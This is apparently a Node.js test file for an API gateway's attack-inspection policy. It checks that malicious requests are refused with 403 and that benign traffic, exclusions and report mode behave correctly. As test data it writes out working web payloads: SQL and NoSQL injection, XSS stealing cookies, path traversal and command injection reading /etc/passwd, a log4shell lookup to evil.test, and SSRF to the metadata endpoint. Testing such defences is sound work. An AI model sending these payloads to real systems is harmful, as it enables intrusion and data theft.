// Through a real gateway: attacks in every placement are refused before the upstream sees them,
// ordinary traffic passes untouched, exclusions and report mode behave.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { passthroughYaml, startTestGateway, type TestGateway } from '../../../test/helpers/gateway.ts';
import { startUpstream, type TestUpstream } from '../../../test/helpers/upstream.ts';

describe('inspect policy', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;
  let reportGw: TestGateway;

  before(async () => {
    upstream = await startUpstream();
    const policies = (extra: string) => `policies:\n  inspect:\n${extra}    exclusions:\n      - { name: sql, location: query, allow: [sqli] }\n`;
    gw = await startTestGateway(passthroughYaml(upstream.url).replace('apis:', `${policies('')}apis:`));
    reportGw = await startTestGateway(passthroughYaml(upstream.url).replace('apis:', `${policies('    mode: report\n')}apis:`));
  });
  after(async () => {
    await gw.close();
    await reportGw.close();
    await upstream.close();
  });

  const attacks: [string, string, RequestInit?][] = [
    ['sqli in query', `/search?q=${encodeURIComponent("1' OR '1'='1' --")}`],
    ['xss in query', `/search?q=${encodeURIComponent('<script>alert(document.cookie)</script>')}`],
    ['path traversal', `/files?name=${encodeURIComponent('../../../../etc/passwd')}`],
    ['command injection in JSON', '/run', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ host: '8.8.8.8; cat /etc/passwd' }) }],
    ['log4shell in a header', '/x', { headers: { 'user-agent': '${jndi:ldap://evil.test/a}' } }],
    ['nosql operator key', '/login', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"user":"admin","password":{"$ne":null}}' }],
    ['ssrf to metadata', `/fetch?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`],
  ];

  for (const [name, path, init] of attacks) {
    test(`refuses ${name} before it reaches the upstream`, async () => {
      const before = upstream.received.length;
      const res = await fetch(`${gw.url}${path}`, init);
      assert.equal(res.status, 403);
      const body = (await res.json()) as { code: string };
      assert.equal(body.code, 'PCL_ERR_ATTACK_DETECTED');
      assert.ok(!JSON.stringify(body).includes('passwd') && !JSON.stringify(body).includes('script'));
      assert.equal(upstream.received.length, before);
    });
  }

  test('ordinary traffic passes, bodies byte for byte', async () => {
    for (const q of ["O'Brien", 'select a size: small or large', 'tom & jerry <3', 'café ☕', 'user@example.com']) {
      assert.equal((await fetch(`${gw.url}/search?q=${encodeURIComponent(q)}`)).status, 200, q);
    }
    const body = JSON.stringify({ note: 'Use SELECT sparingly; see https://example.com/docs?a=1&b=2', tags: ['a', 'b'], n: 3 });
    const res = await fetch(`${gw.url}/notes`, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    assert.equal(res.status, 200);
    assert.equal(upstream.received.at(-1)!.body.toString(), body);
  });

  test('markdown with inline code passes', async () => {
    const body = JSON.stringify({ note: 'Use `SELECT` sparingly, or run `npm test`.' });
    const res = await fetch(`${gw.url}/notes`, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    assert.equal(res.status, 200);
  });

  test('an exclusion lets a field hold what would otherwise be refused', async () => {
    const sql = encodeURIComponent("SELECT name FROM users WHERE id = '1' OR '1'='1'");
    assert.equal((await fetch(`${gw.url}/admin/query?sql=${sql}`)).status, 200);
    assert.equal((await fetch(`${gw.url}/admin/query?other=${sql}`)).status, 403);
  });

  test('report mode lets the attack through', async () => {
    const res = await fetch(`${reportGw.url}/search?q=${encodeURIComponent("1' OR '1'='1' --")}`);
    assert.equal(res.status, 200);
  });
});
